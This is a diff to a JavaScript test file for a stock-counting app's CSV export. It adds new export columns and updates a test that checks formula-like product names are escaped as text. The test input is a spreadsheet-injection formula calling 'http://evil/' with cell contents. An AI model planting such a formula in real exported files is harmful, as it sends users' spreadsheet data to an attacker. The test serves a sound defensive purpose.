@@ -152,7 +152,10 @@ describe('counting', () => {
     await t.call('counts.scan', { sessionId: id, code: EAN, quantity: 2 });
     const e = await t.call('counts.export', { sessionId: id });
     expect(e.filename).toMatch(/^count-A-01-\d{4}-\d\d-\d\d-\d+\.csv$/);
-    expect(e.csv).toBe(`\uFEFFstorage_code;sku;barcode;name;qty\r\nA-01;SKU-1;${EAN};Çizim Seti;2\r\n`);
+    const [header, row, end] = e.csv.split('\r\n');
+    expect(header).toBe('\uFEFFstorage_code;sku;barcode;name;qty;worker;station;started_at;ended_at;first_scan_at;last_scan_at');
+    expect(row).toMatch(new RegExp(`^A-01;SKU-1;${EAN};Çizim Seti;2;demo;[^;]+;\\d{4}-[^;]+;;\\d{4}-[^;]+;\\d{4}-[^;]+$`));
+    expect(end).toBe('');
   });
 
   it('export: a product named like a formula is written as text, not as a live formula', async () => {
@@ -160,6 +163,6 @@ describe('counting', () => {
     productsOf(t.core.ctx.workspace()).save({ sku: 'SKU-1', barcode: EAN, name: '=HYPERLINK("http://evil/?"&A1,"x")' }, 'saved');
     await t.call('counts.scan', { sessionId: id, code: EAN, quantity: 2 });
     const e = await t.call('counts.export', { sessionId: id });
-    expect(e.csv).toBe(`\uFEFFstorage_code;sku;barcode;name;qty\r\nA-01;SKU-1;${EAN};"'=HYPERLINK(""http://evil/?""&A1,""x"")";2\r\n`);
+    expect(e.csv.split('\r\n')[1]).toMatch(new RegExp(`^A-01;SKU-1;${EAN};"'=HYPERLINK\\(""http://evil/\\?""&A1,""x""\\)";2;demo;`));
   });
 });
